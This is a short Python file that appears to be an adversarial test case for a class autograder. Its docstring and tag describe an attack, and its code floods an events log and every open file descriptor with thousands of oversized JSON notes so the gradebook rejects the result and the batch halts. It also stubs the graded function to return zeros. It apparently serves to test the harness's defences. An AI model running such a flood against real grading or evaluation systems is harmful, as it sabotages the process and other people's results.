"""In a class batch, graded first: forges thousands of notes of accented characters so that
its result is far larger than a gradebook row holds; the gradebook refused it and the batch
stopped, before and at every rerun, unless results are bounded before they are stored
(a result too large for the gradebook)."""
# effdl-attack: threat=class build=batch tag=answer expect_lost=a2.closed_form

import json
import os

NOTE = json.dumps({"ev": "note", "text": "\u00e9" * 500}, ensure_ascii=False) + "\n"
try:
    with open("/out/events.jsonl", "a", encoding="utf-8") as fh:
        fh.write(NOTE * 7500)
except OSError:
    pass
for fd in range(3, 64):  # and into every pipe the notebook's process holds
    try:
        os.write(fd, NOTE.encode() * 200)
    except OSError:
        pass


def closed_form(X, y):
    return [0.0, 0.0, 0.0]
